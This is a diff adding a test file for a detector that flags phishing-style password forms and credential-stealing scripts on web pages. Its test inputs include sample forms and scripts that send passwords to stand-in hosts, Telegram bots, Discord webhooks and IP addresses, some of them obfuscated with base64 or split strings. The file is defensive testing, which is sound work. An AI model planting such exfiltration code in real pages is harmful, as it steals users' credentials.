@@ -1,0 +1,195 @@
+import { describe, expect, test } from 'bun:test'
+import { credentialFormCheck } from '../../../../src/trust/checks/credentials/credential-form.ts'
+import { findings, rules } from '../page-subject.ts'
+
+const form = (action: string) =>
+  `<form action="${action}" method=post><input name=u><input type=password name=p></form>`
+const at = (body: string, url = 'https://shop.example/login') => rules(credentialFormCheck, body, { url })
+
+describe('a form for a password', () => {
+  test.each([
+    ['posts to another site', ['content.form_cross_site'], form('https://collect.example.net/x.php')],
+    [
+      'posts to another site by its base',
+      ['content.form_cross_site'],
+      `<base href="https://b.example.net/">${form('x.php')}`,
+    ],
+    ['posts without a scheme', ['content.form_cross_site'], form('//b.example.net/x')],
+    ['posts over http', ['content.form_http'], form('http://shop.example/x')],
+    [
+      'posts to another site over http',
+      ['content.form_cross_site', 'content.form_http'],
+      form('http://b.example.net/'),
+    ],
+    ['posts to an address', ['content.form_http', 'content.form_ip'], form('http://203.0.113.9/x.php')],
+    ['posts to an IPv6 address', ['content.form_ip'], form('https://[2001:db8::1]/x.php')],
+    ['is sent by mail', ['content.form_mail'], form('MailTo:a@b.example')],
+    ['is sent to a collector', ['content.form_bot'], form('https://formspree.io/f/abc')],
+    ['is sent to a chat bot', ['content.form_bot'], form('https://api.telegram.org/bot1:x/sendMessage')],
+    [
+      'is sent elsewhere by its button',
+      ['content.form_cross_site'],
+      form('/x').replace('</form>', '<button formaction="https://b.example.net/">Go</button></form>'),
+    ],
+    [
+      'has its field outside',
+      ['content.form_cross_site'],
+      '<form id=f action="https://b.example.net/"></form><input type=password form=f>',
+    ],
+    [
+      'is in a script',
+      ['content.form_cross_site'],
+      `<script>document.write(unescape('${encodeURIComponent(form('https://b.example.net/'))}'))</script>`,
+    ],
+    [
+      'asks for a card',
+      ['content.form_cross_site'],
+      '<form action="https://b.example.net/"><input autocomplete=cc-number></form>',
+    ],
+  ])('that %s', (_, expected, body) => {
+    expect<readonly string[]>(at(body)).toEqual(expected)
+  })
+
+  test.each([
+    ['posts to the site itself', form('/x')],
+    ['has no action', form('')],
+    ['posts to another host of the same domain', form('https://auth.shop.example/x')],
+    ['posts to an identity provider', form('https://shop.eu.auth0.com/login')],
+    [
+      'posts to a payment provider',
+      '<form action="https://checkout.stripe.com/pay"><input autocomplete=cc-number></form>',
+    ],
+    [
+      'stands beside a form for news',
+      `${form('/x')}<form action="https://list.example.net/"><input type=email></form>`,
+    ],
+    ['goes to a script', form('javascript:void(0)')],
+    ['posts nowhere that is an address', form('https://%')],
+  ])('that %s gives no sign', (_, body) => {
+    expect(at(body)).toEqual([])
+  })
+
+  test('posts within the domains of one owner', () => {
+    expect(at(form('https://login.live.com/ppsecure'), 'https://www.microsoft.com/x')).toEqual([])
+    expect(at(form('https://www.venmo.com/x'), 'https://www.paypal.com/')).toEqual([])
+  })
+
+  test('on an address that posts to itself is no form elsewhere', () => {
+    expect(at(form('/x'), 'https://203.0.113.9/')).toEqual([])
+  })
+
+  test('over http is a password over http', () => {
+    expect(at(form('/x'), 'http://shop.example/')).toEqual(['content.password_over_http'])
+    expect(at('<input name=q>', 'http://shop.example/')).toEqual([])
+  })
+
+  test('on a tenant of a platform says so', () => {
+    expect(at(form('/x'), 'https://my-login.vercel.app/')).toEqual(['content.tenant_credential'])
+    expect(at(form('/x'), 'https://acme.auth.us-east-1.amazoncognito.com/login')).toEqual([])
+    expect(at(form('/x'), 'https://shop.uk.com/')).toEqual([])
+    expect(at('<form><input type=email></form>', 'https://my-login.vercel.app/')).toEqual([])
+  })
+
+  test('names its place, its target and whose it should be', () => {
+    expect(findings(credentialFormCheck, `<p>${form('https://b.example.net/x')}`)[0]).toEqual({
+      rule: 'content.form_cross_site',
+      evidence: { at: 'html:form[0]', offset: 3, seen: 'https://b.example.net/x', expected: 'shop.example' },
+    })
+  })
+})
+
+describe('a script on a page with a password', () => {
+  const FIELD = '<input type=password id=p>'
+  const script = (code: string) => `${FIELD}<script>${code}</script>`
+
+  test.each([
+    [
+      'sends it to a chat bot',
+      ['content.form_bot'],
+      script("fetch('https://api.telegram.org/bot'+t+'/sendMessage')"),
+    ],
+    [
+      'sends it to a chat bot in pieces',
+      ['content.form_bot'],
+      script("var u='https://api.tele'+'gram.org/bot'"),
+    ],
+    [
+      'sends it to a chat bot in disguise',
+      ['content.form_bot'],
+      script(`var u=atob("${btoa('https://api.telegram.org/bot123:abc/')}")`),
+    ],
+    [
+      'sends it to a webhook',
+      ['content.form_bot'],
+      script("fetch('https://discord.com/api/webhooks/1/x',{body:p.value})"),
+    ],
+    [
+      'sends it to another site',
+      ['content.form_cross_site'],
+      script("fetch('https://b.example.net/a',{method:'POST',body:JSON.stringify({password:p.value})})"),
+    ],
+    [
+      'sends it to an address',
+      ['content.form_http', 'content.form_ip'],
+      script("x.open('POST','http://203.0.113.9/a');x.send('pass='+p.value)"),
+    ],
+    [
+      'sends it by beacon',
+      ['content.form_cross_site'],
+      script("navigator.sendBeacon('https://b.example.net/a',passwd)"),
+    ],
+    [
+      'sends it over a socket',
+      ['content.form_cross_site'],
+      script("s=new WebSocket('wss://b.example.net/a');s.send(password)"),
+    ],
+  ])('%s', (_, expected, body) => {
+    expect<readonly string[]>(at(body)).toEqual(expected)
+  })
+
+  test.each([
+    ['sends it to the site itself', script("fetch('/login',{body:JSON.stringify({password:p.value})})")],
+    ['counts visits', script("fetch('https://stats.example.net/hit')")],
+    [
+      'counts visits at a known owner',
+      script("navigator.sendBeacon('https://www.google-analytics.com/collect',password_page)"),
+    ],
+    ['asks nothing', "<script>fetch('https://b.example.net/password')</script>"],
+    ['speaks of bots without asking', "<script>fetch('https://api.telegram.org/bot1/getMe')</script>"],
+  ])('%s: no sign', (_, body) => {
+    expect(at(body)).toEqual([])
+  })
+})
+
+describe('a script that sends whatever a page was given', () => {
+  const login = '<form id=f><input name=u><input type=password name=p></form>'
+  const TO = 'https://collect.example.net/x.php'
+
+  test.each([
+    ['with a library', `$.post("${TO}",$(this).serialize())`],
+    ['with its settings in any order', `$.ajax({type:"POST",data:$("#f").serialize(),url:"${TO}"})`],
+    ['as the data of a form', `fetch("${TO}",{method:"POST",body:new FormData(f)})`],
+    ['field by field', `document.querySelectorAll("input").forEach(i=>o[i.name]=i.value);fetch("${TO}",o)`],
+  ])('sends the password, %s', (_, code) => {
+    expect(at(`${login}<script>${code}</script>`)).toEqual(['content.form_cross_site'])
+  })
+
+  test.each([
+    ['to the site itself', `${login}<script>$.post("/login",$(this).serialize())</script>`],
+    [
+      'of another form on the page',
+      `${login}<form id=n><input name=newsletter type=email></form><script>$.post("${TO}",$("#n").serialize())</script>`,
+    ],
+    ['nothing', `${login}<script>fetch("${TO}")</script>`],
+  ])('but not %s', (_, body) => {
+    expect(at(body)).toEqual([])
+  })
+
+  test('finds the address of a bot that a list holds in base64', () => {
+    const bot = btoa('https://api.telegram.org/bot15:AAE/sendMessage')
+    const code = `<script>var l=["${bot}","submit"];addEventListener(l[1],()=>fetch(atob(l[0])))</script>`
+    expect(at(login + code)).toEqual(['content.form_bot'])
+    expect(at(login + code.replace(bot, btoa('https://shop.example/api/status/of/services')))).toEqual([])
+    expect(at(code)).toEqual([])
+  })
+})
